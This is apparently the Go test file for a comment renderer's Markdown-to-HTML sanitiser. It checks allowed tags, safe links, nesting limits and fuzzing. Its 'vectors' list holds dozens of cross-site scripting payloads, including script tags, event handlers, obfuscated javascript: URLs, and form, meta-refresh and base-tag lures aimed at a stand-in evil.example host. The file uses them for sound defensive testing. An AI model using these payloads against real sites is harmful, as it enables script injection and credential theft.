package markup_test

import (
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"hamlet/internal/markup"
)

func TestStrangerRenders(t *testing.T) {
	t.Parallel()
	const rel = `rel="nofollow ugc noopener"`
	for _, tt := range []struct{ name, src, want string }{
		{"emphasis", "*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"},
		{"line breaks are kept", "a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>"},
		{"links", "[a](https://example.org/x?y=1&z=2 \"t\")", `<p><a href="https://example.org/x?y=1&amp;z=2" ` + rel + `>a</a></p>`},
		{"bare addresses", "(see http://example.org/a_(b)). x", `<p>(see <a href="http://example.org/a_(b)" ` + rel + `>http://example.org/a_(b)</a>). x</p>`},
		{"addresses in brackets", "<https://example.org>", `<p><a href="https://example.org" ` + rel + `>https://example.org</a></p>`},
		{"addresses in any script", "http://пример.рф/путь?q=ж", `<p><a href="http://xn--e1afmkfd.xn--p1ai/%D0%BF%D1%83%D1%82%D1%8C?q=%D0%B6" ` + rel + `>http://пример.рф/путь?q=ж</a></p>`},
		{"a full stop is not in an address", "https://zh.wikipedia.org/wiki/仓鼠。好", `<p><a href="https://zh.wikipedia.org/wiki/%E4%BB%93%E9%BC%A0" ` + rel + `>https://zh.wikipedia.org/wiki/仓鼠</a>。好</p>`},
		{"references stay", "[a][1]\n\n[1]: https://example.org", `<p>[a][1]</p>` + "\n" + `<p>[1]: <a href="https://example.org" ` + rel + `>https://example.org</a></p>`},
		{"nothing hides in a definition", "[a]: https://example.org/pills", `<p>[a]: <a href="https://example.org/pills" ` + rel + `>https://example.org/pills</a></p>`},
		{"footnotes stay", "a[^1]\n\n[^1]: b", "<p>a[^1]</p>\n<p>[^1]: b</p>"},
		{"ports and numbers", "http://192.0.2.1:8080/", `<p><a href="http://192.0.2.1:8080/" ` + rel + `>http://192.0.2.1:8080/</a></p>`},
		{"no mail", "<a@example.org> b@example.org mailto:c@example.org [d](mailto:e@example.org)", "<p>a@example.org b@example.org mailto:c@example.org d</p>"},
		{"no www", "www.example.org", "<p>www.example.org</p>"},
		{"no paths", "[a](/admin) [b](#respond) [c](//example.org) [d](x)", "<p>a b c d</p>"},
		{"no names before the host", "[a](https://bank.example@evil.example/)", "<p>a</p>"},
		{"images are their words", "![a *cat*](https://example.org/c.png) ![](https://example.org/d.png)", "<p>a cat https://example.org/d.png</p>"},
		{"an image in a link", "[![a](b)](https://example.org)", `<p><a href="https://example.org" ` + rel + `>a</a></p>`},
		{"headings are bold", "# A\n\n###### B", "<p><strong>A</strong></p>\n<p><strong>B</strong></p>"},
		{"underlines and rules stay", "A\n===\n\n---", "<p>A<br>\n===</p>\n<p>---</p>"},
		{"tables stay", "|a|\n|-|\n|b|", "<p>|a|<br>\n|-|<br>\n|b|</p>"},
		{"raw HTML is shown", "<b>x</b> <!-- y -->\n\n<div>z</div>", "<p>&lt;b&gt;x&lt;/b&gt; &lt;!-- y --&gt;</p>\n<p>&lt;div&gt;z&lt;/div&gt;</p>"},
		{"lists", "- a\n- b\n  1. c\n\n7. d", "<ul>\n<li>a</li>\n<li>b\n<ol>\n<li>c</li>\n</ol>\n</li>\n</ul>\n<ol start=\"7\">\n<li>d</li>\n</ol>"},
		{"quotes", "> a\n> > b", "<blockquote>\n<p>a</p>\n<blockquote>\n<p>b</p>\n</blockquote>\n</blockquote>"},
		{"code", "```html\n<i>a</i>\n```\n\n    b", "<pre tabindex=\"0\"><code>&lt;i&gt;a&lt;/i&gt;\n</code></pre>\n<pre tabindex=\"0\"><code>b\n</code></pre>"},
		{"entities", "&lt;script&gt; &amp;lt; &#60;b>", "<p>&lt;script&gt; &amp;lt; &lt;b&gt;</p>"},
		{"right to left", "שלום **עולם**", "<p>שלום <strong>עולם</strong></p>"},
		{"all scripts", "नमस्ते 你好 Γειά ሰላም ආයුබෝවන් 👩‍👩‍👧", "<p>नमस्ते 你好 Γειά ሰላም ආයුබෝවන් 👩‍👩‍👧</p>"},
		{"not UTF-8", "a\xffb", "<p>a\uFFFDb</p>"},
		{"control characters", "a\x00\x1bb", "<p>a\uFFFD\uFFFDb</p>"},
		{"nothing", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := strings.TrimSpace(string(markup.Stranger(tt.src)))
			got = regexp.MustCompile(`\n+`).ReplaceAllString(got, "\n")
			if got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
		})
	}
}

// vectors are what people try.
var vectors = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe src="javascript:alert(1)">`, `<a href="javascript:alert(1)">x</a>`, `<body onload=alert(1)>`, `<style>*{display:none}</style>`, `<p style="position:fixed">x`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#10;script:alert(1))`, `[x](&#x6A;avascript:alert(1))`, `[x](javascript&colon;alert(1))`, "[x](\x01javascript:alert(1))",
	`[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](vbscript:msgbox)`, `[x](<javascript:alert(1)>)`, `[x](https://example.org" onmouseover="alert(1))`, `[x](https://example.org 'a" onclick="b')`,
	`[x](https://example.org/"onclick="x)`, `<javascript:alert(1)>`, `<https://example.org/"onmouseover="x>`, "[x]\n\n[x]: javascript:alert(1)", `![x](javascript:alert(1))`, `![x"onerror="y](z)`, `![](x"onerror="alert(1))`,
	"```\"><script>alert(1)</script>\nx\n```", "~~~ x\" onload=\"y\nz\n~~~", "`</code><script>`", `> <script>x</script>`, "- <img src=x onerror=y>", "# <script>x</script>", `**<b onclick=x>**`,
	`<a href="https://example.org" rel="follow" target=_blank>x</a>`, `<<script>script>alert(1)<</script>/script>`, `<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml-stylesheet href="x"?>`,
	`</p></article><h1>owned</h1>`, `<math><mi//xlink:href="data:x,<script>y</script>">`, `<details open ontoggle=alert(1)>`, `<form action=//evil.example><input name=password>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<object data=x>`, `<embed src=x>`, `<plaintext>`, `<textarea>`, `<title>`, `<noscript><p title="</noscript><img src=x onerror=y>">`, "&lt;script&gt;alert(1)&lt;/script&gt;", `\<script>`, "<scr\x00ipt>",
	"[a](https://example.org)<script>", "http://example.org/<script>", "http://example.org/\"onmouseover=\"x", "https://example.org/'onclick='x", "[x](http://example.org\\@evil.example)", "[x](http:evil)", "[x](http:///evil)", "[x](https:\\\\evil.example)",
}

var strangersTags = map[string]string{"p": "", "br": "", "em": "", "strong": "", "del": "", "code": "", "blockquote": "", "ul": "", "li": "", "ol": "start", "pre": "tabindex", "a": "href rel"}

// harmless checks that a rendered comment holds the subset and nothing else, and
// is closed.
func harmless(t *testing.T, src, out string) {
	t.Helper()
	wellFormed(t, out)
	z := html.NewTokenizer(strings.NewReader(out))
	links := 0
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		switch tok.Type {
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: %v in %q", src, tok, out)
		case html.EndTagToken:
			if tok.Data == "a" {
				links--
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			allowed, ok := strangersTags[tok.Data]
			if !ok {
				t.Errorf("%q: <%s> in %q", src, tok.Data, out)
			}
			for _, a := range tok.Attr {
				if !strings.Contains(" "+allowed+" ", " "+a.Key+" ") {
					t.Errorf("%q: <%s %s> in %q", src, tok.Data, a.Key, out)
				}
			}
			if tok.Data == "a" {
				links++
				harmlessLink(t, tok, out)
			}
		}
		if links > 1 {
			t.Errorf("%q: a link in a link in %q", src, out)
		}
	}
}

func harmlessLink(t *testing.T, tok html.Token, out string) {
	t.Helper()
	values := map[string]string{}
	for _, a := range tok.Attr {
		values[a.Key] = a.Val
	}
	u, err := url.Parse(values["href"])
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" || u.User != nil {
		t.Errorf("leads to %q (%v) in %q", values["href"], err, out)
	}
	if got, want := values["rel"], "nofollow ugc noopener"; got != want {
		t.Errorf("rel: got %q, want %q in %q", got, want, out)
	}
}

func TestStrangerIsHarmless(t *testing.T) {
	t.Parallel()
	for _, v := range vectors {
		harmless(t, v, string(markup.Stranger(v)))
		// What was tried is to be seen, not to vanish.
		if out := string(markup.Stranger(v)); strings.HasPrefix(v, "<") && !strings.Contains(out, "&lt;") && !strings.HasPrefix(v, "<javascript:") && !strings.HasPrefix(v, "<https:") {
			t.Errorf("%q vanished: %q", v, out)
		}
	}
}

// TestTheSecondWallStandsAlone sanitises what the renderer would never write.
func TestTheSecondWallStandsAlone(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ in, want string }{
		{`a<script>b</script>c`, `ac`},
		{`<p style="x" class="y" id="z" onclick="w">a</p>`, `<p>a</p>`},
		{`<a href="javascript:x" rel="nofollow ugc noopener">a</a>`, `<a rel="nofollow ugc noopener">a</a>`},
		{`<a href="//example.org">a</a>`, `a`},
		{`<a href="https://example.org" rel="follow" target="_blank">a</a>`, `<a href="https://example.org" rel="nofollow">a</a>`},
		{`<img src="https://example.org/x.png" alt="a">`, ``},
		{`<pre tabindex="5">a</pre>`, `<pre>a</pre>`},
		{`<ol start="x" type="i"><li>a</li></ol>`, `<ol><li>a</li></ol>`},
		{`<h1>a</h1><table><tr><td>b</td></tr></table>`, `ab`},
		{`<!-- a -->`, ``},
	} {
		if got := strings.ReplaceAll(markup.Sanitise(tt.in), " ", ""); got != strings.ReplaceAll(tt.want, " ", "") {
			t.Errorf("%s: got %q, want %q", tt.in, got, tt.want)
		}
	}
}

// worst are pieces whose repetition is slow to read for one Markdown reader or
// another.
var worst = []string{
	"[a](", "[", "![", "[[a]", "]", "](", "[a](x)", "![a](x)", "[a][a]", "[a](<b", "[a](\"", "[a]: x\n", "[a]:\n", "![[]()", "[](", "a[]",
	">", "> ", ">>>> ", "- ", "1. ", "* * ", "\n> - ", "  - a\n", "-\n", "> a\n", "    ", "\t",
	"*", "***", "_a", "a*", "*a **a ", "*a_ ", "**a*", "~", "~~a ~", "a~~", "a**b", "_*~",
	"`", "`a``b", "``` \n", "~~~\n", "`a", "\\```\n", "\\```\n![~", "[^\\```\n", "`a``\n", "a`\\\n",
	"*\n", "_a\n", "**a\n", "a*\n", "~~a\n", "[\n", "![\n", "[a](\n", "[a](<b\n", "[a](\"\n", "[a][\n", "a]\n", "<a\n", "<!--\n", "http://a.b\n",
	"\\", "\\`", "&", "&amp;", "&#", "<", "<a ", "<!--", "<?", "<http://a.b>", "<a@b.c>",
	"http://a.b ", "https://a.b/(", "http://", "h", "www.a.b ", "a@b.c ", "# a\n", "#", "|a", "a\n\n", "\n", " \n", "字", "ж ", "\u202e", "👩‍👩‍👧",
}

func TestStrangerLimitsNesting(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ mark, tag string }{{">", "<blockquote>"}, {"- ", "<ul>"}, {"1. ", "<ol>"}, {"> - ", "<ul>"}} {
		got := strings.Count(string(markup.Stranger(strings.Repeat(tt.mark, 1000)+"x")), tt.tag)
		if got > 21 || got < 10 {
			t.Errorf("%q nests %d deep, want about 20", tt.mark, got)
		}
	}
	deep := string(markup.Stranger(strings.Repeat("*a **a ", 100) + strings.Repeat("a** a* ", 100)))
	depth, deepest := 0, 0
	for _, m := range regexp.MustCompile(`<(/?)(em|strong)>`).FindAllStringSubmatch(deep, -1) {
		if depth++; m[1] == "/" {
			depth -= 2
		}
		deepest = max(deepest, depth)
	}
	if deepest > 41 || deepest < 20 {
		t.Errorf("emphasis nests %d deep, want about 40", deepest)
	}
}

func TestPlain(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ src, want string }{
		{"*a*\nb [c](https://example.org) <b>", "a b c <b>"},
		{"one two three four", "one two…"},
		{"", ""},
	} {
		if got := markup.Plain(tt.src, 12); got != tt.want {
			t.Errorf("Plain(%q): got %q, want %q", tt.src, got, tt.want)
		}
	}
}

func FuzzStranger(f *testing.F) {
	for _, v := range append(vectors, worst...) {
		f.Add(v)
	}
	f.Add("a\n> b\n- *c* **d** ~~e~~ `f` [g](https://h.example) ![i](j)\n\n```k\nl\n```\n<m@n.example>")
	f.Fuzz(func(t *testing.T, src string) {
		out := string(markup.Stranger(src))
		harmless(t, src, out)
		if again := markup.Sanitise(out); again != out {
			t.Errorf("sanitised again\n%q becomes\n%q", out, again)
		}
	})
}

func BenchmarkStranger(b *testing.B) {
	src := "I *quite* agree with [this](https://example.org/a), and with\nwhat Ada said:\n\n> `x` is **not** y\n\n- one\n- two\n"
	for b.Loop() {
		_ = markup.Stranger(src)
	}
}

func TestStrangerLimitsMarks(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		piece, tag string
		want       int
	}{{"[a](https://b.example) ", ">a</a>", 200}, {"*a* ", "<em>", 250}, {"`a` ", "<code>", 100}} {
		out := string(markup.Stranger(strings.Repeat(tt.piece, 400)))
		if got := strings.Count(out, tt.tag); got != tt.want {
			t.Errorf("%q 400 times: got %d of %s, want %d", tt.piece, got, tt.tag, tt.want)
		}
		harmless(t, tt.piece, out)
	}
}

func TestSeen(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ src, want string }{
		{"a **b** `c` & [d](https://example.org) <i>", "a b c & d <i>"},
		{"![](https://example.org/d.png)", "https://example.org/d.png"},
		{"[a]: https://example.org", "[a]: https://example.org"},
		{"#", ""},
		{"> ", ""},
		{"-", ""},
		{"```\n```", ""},
		{"[](https://example.org)", ""},
		{"&#8203;", "\u200b"},
	} {
		if got := strings.TrimSpace(markup.Seen(tt.src)); got != tt.want {
			t.Errorf("%q: got %q, want %q", tt.src, got, tt.want)
		}
	}
}

// TestFirstLetterIsSeen: whoever takes comments goes by it that a text which begins with a
// letter shows that letter, whatever follows.
func TestFirstLetterIsSeen(t *testing.T) {
	t.Parallel()
	piece := rapid.OneOf(rapid.SampledFrom([]string{
		"`", "```", "*", "_", "~~", "[", "](", ")", "![", "<", ">", "<!--", "]: ", "\n", "\n\n", "# ", "> ", "- ", "1. ", "\\", "&nbsp;", "---", "===",
		"http://example.org", "\t", "    ", "|", "a", ": ",
	}), rapid.String())
	rapid.Check(t, func(t *rapid.T) {
		src := rapid.StringMatching(`\pL`).Draw(t, "letter") + strings.Join(rapid.SliceOfN(piece, 0, 12).Draw(t, "rest"), "")
		first, _ := utf8.DecodeRuneInString(src)
		if seen := strings.TrimSpace(markup.Seen(src)); !strings.HasPrefix(seen, string(first)) {
			t.Errorf("%q shows %q", src, seen)
		}
	})
}
